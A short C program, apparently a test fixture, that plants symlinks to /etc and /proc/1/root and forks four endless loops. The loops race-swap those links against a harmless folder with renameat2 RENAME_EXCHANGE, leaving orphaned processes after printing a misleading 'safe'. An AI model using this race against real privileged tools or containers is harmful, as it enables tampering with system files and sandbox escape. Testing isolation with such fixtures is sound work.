// Exchanges folders and links in its work folder as fast as it can, until it is ended and even then.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    mkdir("a", 0777);
    close(open("a/program", O_CREAT | O_WRONLY, 0777));
    symlink("/etc", "b");
    symlink("/proc/1/root", "program");
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            for (;;) {
                renameat2(AT_FDCWD, "a", AT_FDCWD, "b", RENAME_EXCHANGE);
                rename("program", "c");
                rename("c", "program");
            }
        }
    usleep(100000);
    puts("safe");
}
